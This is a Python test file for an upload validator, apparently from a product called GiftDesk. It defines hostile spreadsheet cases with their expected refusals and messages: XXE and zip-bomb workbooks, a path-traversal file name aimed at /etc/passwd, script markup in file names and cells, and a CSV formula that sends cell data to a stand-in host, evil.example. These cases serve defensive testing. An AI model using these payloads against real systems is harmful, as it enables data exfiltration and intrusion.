"""The hostile-input corpus: each spreadsheet GiftDesk must answer calmly, with what the
user must see.

A case is one upload: its file name, its bytes (a fixed file in tests/hostile/files/ or a
builder in tests/hostile/workbooks.py), what becomes of it, and the key words of the
message. Outcomes:
- REFUSED: the file as a whole is refused (admin: an error on the upload form, no
  preview; send_csv: exit 2);
- NO_VALID_ROWS: the file is read but no row is valid (admin: the preview says there is
  nothing to create; send_csv: exit 1, the row's reason, nothing created);
- ACCEPTED: the values are data: the preview shows them as text (send_csv --dry-run:
  exit 0). Nothing is created before the user confirms.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

from tests import hostile_files
from tests.hostile import workbooks

FILES = Path(__file__).parent / "files"
REFUSED, NO_VALID_ROWS, ACCEPTED = "refused", "no valid rows", "accepted"
SAVE_AS = "Save the spreadsheet as CSV"
TWENTY_MB = 20 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    content: Callable[[], bytes]
    outcome: str
    words: tuple[str, ...]  # key words of the message, in both channels
    admin_words: tuple[str, ...] = ()  # where the admin says it differently
    cli_words: tuple[str, ...] = ()
    channels: tuple[str, ...] = ("admin", "cli")
    max_seconds: float | None = None  # answered within, measured around the request/command
    never: tuple[str, ...] = field(default=())  # must not appear (e.g. what an entity would pull in)
    exit_code: int | None = None  # send_csv's, where the outcome's usual one does not apply
    settings: dict = field(default_factory=dict)  # overridden for the case (a bound made small)

    @property
    def cli_exit(self) -> int:
        if self.exit_code is not None:
            return self.exit_code
        return {REFUSED: 2, NO_VALID_ROWS: 1, ACCEPTED: 0}[self.outcome]

    def expected(self, channel: str) -> tuple[str, ...]:
        specific = self.admin_words if channel == "admin" else self.cli_words
        return specific or self.words


def fixed(name: str) -> Callable[[], bytes]:
    return lambda: (FILES / name).read_bytes()


def built(builder: Callable[[], bytes]) -> Callable[[], bytes]:
    """A builder of tests/hostile_files.py, built once per run (some take a second)."""
    return cache(builder)


def valid_csv() -> bytes:
    return b"name,email,amount\nAna Hansen,ana@example.com,100\n"


NOT_AN_AMOUNT = "is not an amount; write it like 50 or 50.00"
NOT_ASCII_DIGITS = "only the digits 0-9 are accepted"
NO_DATA_ROWS = ("The header is on row 1 but there are no recipient rows under it. "
                "Add one row per recipient below the header and upload it again.")
# Markup in a file name (no "/": a browser sends only the last path segment).
HOSTILE_NAME = "<script>alert('name')<img src=x onerror=alert(1)>"
PASSWD = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")

CASES: list[Case] = [
    # --- Not a spreadsheet, or not one we read ------------------------------------------------
    Case("empty-file", "empty.csv", fixed("empty.csv"), REFUSED, (),
         admin_words=("The submitted file is empty",), cli_words=("no name", "email column", "row 1 is empty")),
    # Nothing to send is a refusal (exit 2), not "every row valid" (exit 0).
    Case("header-only", "header_only.csv", fixed("header_only.csv"), REFUSED, (NO_DATA_ROWS,)),
    Case("header-and-blank-rows", "blank_rows.csv", lambda: b"name,email,amount\n\n , ,\n,,\n", REFUSED,
         (NO_DATA_ROWS,)),
    Case("binary-junk", "photo.jpg", fixed("binary_junk.bin"), REFUSED, ("not a spreadsheet file", SAVE_AS)),
    Case("old-excel-xls", "old_excel.xls", fixed("old_excel.xls"), REFUSED, ("old Excel .xls", SAVE_AS)),
    Case("ods", "recipients.ods", workbooks.ods, REFUSED, ("OpenDocument spreadsheet (.ods)", SAVE_AS)),
    Case("encrypted-xlsx", "locked.xlsx", workbooks.encrypted_xlsx, REFUSED, ("password-protected", SAVE_AS)),
    Case("broken-zip", "broken_zip.xlsx", fixed("broken_zip.xlsx"), REFUSED, ("damaged", SAVE_AS)),
    Case("truncated-xlsx", "half.xlsx", workbooks.truncated_xlsx, REFUSED, ("damaged", SAVE_AS)),
    Case("zip-not-a-workbook", "recipients.zip", workbooks.zip_not_a_workbook, REFUSED,
         ("not an Excel workbook", SAVE_AS)),
    # One NUL in one cell of a UTF-8 CSV: that row's control character, not a binary file.
    Case("nul-byte-in-a-cell", "nul_bytes.csv", fixed("nul_bytes.csv"), NO_VALID_ROWS,
         ("invisible control character (U+0000)",),
         cli_words=("Row 2, name: This cell contains an invisible control character (U+0000)",)),
    Case("nul-bytes-throughout", "nuls.csv", lambda: b"name,email,amount\n" + b"\x00" * 64, REFUSED,
         ("not a spreadsheet file", SAVE_AS)),
    Case("utf16-without-bom", "utf16.csv", fixed("utf16_without_bom.csv"), REFUSED,
         ("not a spreadsheet file", "CSV (UTF-8)")),
    Case("unclosed-quote", "unclosed_quote.csv", fixed("unclosed_quote.csv"), REFUSED,
         ("Row 2 is not valid CSV", "Check the quotes")),
    # --- Workbooks that attack the reader -----------------------------------------------------
    Case("xxe-workbook", "xxe.xlsx", workbooks.xxe_xlsx, REFUSED, (SAVE_AS,), never=PASSWD, max_seconds=10),
    Case("billion-laughs-workbook", "laughs.xlsx", workbooks.billion_laughs_xlsx, REFUSED, (SAVE_AS,),
         never=("lollollol",), max_seconds=10),
    Case("deflate-bomb-100mb", "bomb.xlsx", workbooks.deflate_bomb_xlsx, REFUSED, ("unpack", SAVE_AS),
         max_seconds=1),
    Case("zip-with-10001-parts", "parts.xlsx", workbooks.many_members_zip, REFUSED, ("parts, far more than a recipient list needs", SAVE_AS),
         max_seconds=5),
    # The probe's workbook: 200 MB of blank rows in 1.8 MB, under the ratio guard (it took
    # 151 s and 3.3 GB). Time bounds are generous for a loaded machine: seconds, not minutes.
    Case("blank-rows-bomb-200mb", "probe.xlsx", built(hostile_files.blank_rows_bomb), REFUSED, ("unpacks to",),
         max_seconds=5),
    Case("zip-directory-lying-about-size", "liar.xlsx", built(hostile_files.lying_directory), REFUSED, ("CSV",),
         max_seconds=10),
    Case("rows-all-numbered-2", "endless.xlsx", built(hostile_files.repeated_row_number), REFUSED,
         ("takes more than", "stopped reading it"), settings={"GIFTDESK_IMPORT_READ_SECONDS": 1.0}, max_seconds=10),
    Case("shared-strings-bomb", "strings.xlsx", built(hostile_files.shared_strings_bomb), REFUSED,
         ("stopped reading it",), settings={"GIFTDESK_IMPORT_READ_SECONDS": 1.0}, max_seconds=10),
    Case("150000-blank-rows", "gaps.xlsx", lambda: workbooks.blank_rows_xlsx(150_000), REFUSED, ("100,000",),
         max_seconds=10),
    # --- Limits --------------------------------------------------------------------------------
    Case("over-20-mb", "huge.csv", lambda: workbooks.oversize_csv(TWENTY_MB + 1), REFUSED,
         ("the limit is 20 MB",), max_seconds=1),
    Case("50001-rows", "many.csv", lambda: workbooks.too_many_rows_csv(50_001), REFUSED,
         ("more than 50,000 rows", "the limit is 50,000"), max_seconds=5),
    Case("name-over-200-chars", "long_name.csv", lambda: workbooks.long_field_csv("name", 201), NO_VALID_ROWS,
         ("201 characters long; the limit is 200",)),
    Case("200000-char-field", "long_message.csv", lambda: workbooks.long_field_csv("message", 200_000),
         NO_VALID_ROWS, ("200,000 characters long; the limit is 1,000",)),
    # --- Shapes --------------------------------------------------------------------------------
    Case("mixed-delimiters", "mixed.csv", fixed("mixed_delimiters.csv"), REFUSED,
         ("no email column", "'email;amount'")),
    Case("duplicated-columns", "dup.csv", fixed("duplicated_columns.csv"), REFUSED,
         ("The column 'email' appears twice (columns B and D)",)),
    Case("missing-name-and-amount", "no_name.csv", lambda: b"E-mail,Department\nana@example.com,HR\n", REFUSED,
         ("no name (or first_name and last_name) column, and no amount column", "Columns found: 'E-mail', "
          "'Department'")),
    # --- Title rows above the header (the rows keep the numbers the spreadsheet shows) -----------
    Case("title-rows-csv", "hr_export.csv", workbooks.title_rows_csv, ACCEPTED, (),
         admin_words=("Row 3 was taken as the header; the 2 rows above it were skipped.",
                      "1 valid row will become an order"),
         cli_words=("Row 3 was taken as the header; the 2 rows above it were skipped.",
                    "1 valid row (100.00 DKK), 0 invalid rows.")),
    Case("title-rows-xlsx", "hr_export.xlsx", workbooks.title_rows_xlsx, ACCEPTED, (),
         admin_words=("Row 3 was taken as the header", "1 valid row will become an order"),
         cli_words=("Row 3 was taken as the header", "1 valid row (100.00 DKK)")),
    Case("endless-title-rows-csv", "titles.csv", built(workbooks.endless_titles_csv), REFUSED,
         ("no name (or first_name and last_name) and no email column", "first 10 non-blank rows"), max_seconds=2),
    Case("endless-title-rows-xlsx", "titles.xlsx", built(workbooks.endless_titles_xlsx), REFUSED,
         ("no name (or first_name and last_name) and no email column", "first 10 non-blank rows"), max_seconds=5),
    # --- Values --------------------------------------------------------------------------------
    Case("formula-values", "formulas.csv", fixed("formulas.csv"), ACCEPTED,
         ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+45 Ana", "-Bo", "@SUM(A1)"),
         admin_words=("4 valid rows will become orders", '=HYPERLINK("http://evil.example/?"&A1,"Click")',
                      "+45 Ana", "-Bo", "@SUM(A1)"),
         cli_words=("4 valid rows", "Dry run: nothing was created")),
    Case("html-in-cells", "html.csv", fixed("html_in_cells.csv"), ACCEPTED, (),
         admin_words=("1 valid row will become an order", "<script>alert(1)</script>"),
         cli_words=("1 valid row (", "Dry run: nothing was created")),
    Case("control-characters", "bell.csv", fixed("control_characters.csv"), NO_VALID_ROWS,
         ("invisible control character",)),
    # "Ana \u202egpj.exe" shows as "Ana exe.jpg": a name that reads other than it is.
    Case("rtl-override-in-name", "rtl.csv", fixed("rtl_override.csv"), NO_VALID_ROWS,
         ("invisible text-direction character (U+202E)",)),
    Case("amount-1e9", "exp.csv", fixed("amount_exponent.csv"), NO_VALID_ROWS, ("'1e9' " + NOT_AN_AMOUNT,)),
    Case("amount-nan", "nan.csv", fixed("amount_nan.csv"), NO_VALID_ROWS, ("'NaN' " + NOT_AN_AMOUNT,)),
    Case("amount-negative", "neg.csv", fixed("amount_negative.csv"), NO_VALID_ROWS, ("'-5' " + NOT_AN_AMOUNT,)),
    Case("amount-hex", "hex.csv", fixed("amount_hex.csv"), NO_VALID_ROWS, ("'0x10' " + NOT_AN_AMOUNT,)),
    # Digits other than 0-9 (a regex digit class and Decimal read both as 50): refused on their row.
    Case("amount-arabic-indic-digits", "arabic.csv", lambda: "name,email,amount\nAna,ana@example.com,٥٠\n".encode(),
         NO_VALID_ROWS, ("'٥٠' is not an amount: " + NOT_ASCII_DIGITS,)),
    Case("amount-full-width-digits", "fullwidth.csv", lambda: "name,email,amount\nAna,ana@example.com,５０\n".encode(),
         NO_VALID_ROWS, ("'５０' is not an amount: " + NOT_ASCII_DIGITS,)),
    Case("send-on-full-width-digits", "date.csv",
         lambda: "name,email,amount,send_on\nAna,ana@example.com,100,２０９９-０１-３１\n".encode(),
         NO_VALID_ROWS, ("is not a date: " + NOT_ASCII_DIGITS,)),
    Case("send-on-in-the-past", "past.csv", fixed("date_in_the_past.csv"), NO_VALID_ROWS,
         ("2020-01-31 is in the past",)),
    # --- Hostile file names (the name is shown back: escaped) ------------------------------------
    Case("file-name-markup", HOSTILE_NAME + ".xls", fixed("old_excel.xls"), REFUSED,
         ("old Excel .xls",), cli_words=(f"“{HOSTILE_NAME}.xls” looks like an old Excel .xls",)),
    Case("file-name-traversal", "../../etc/passwd", fixed("old_excel.xls"), REFUSED,
         ("old Excel .xls",), never=PASSWD, channels=("admin",)),
    Case("file-name-300-chars", "r" * 296 + ".xls", fixed("old_excel.xls"), REFUSED, ("old Excel .xls",),
         channels=("admin",)),
    Case("file-name-nul", "recipients\x00.xls", fixed("old_excel.xls"), REFUSED, ("old Excel .xls",),
         channels=("admin",)),
    Case("file-name-markup-valid-file", HOSTILE_NAME + ".csv", valid_csv, ACCEPTED, (),
         admin_words=("1 valid row will become an order",), cli_words=("1 valid row (", "Dry run: nothing was created")),
]
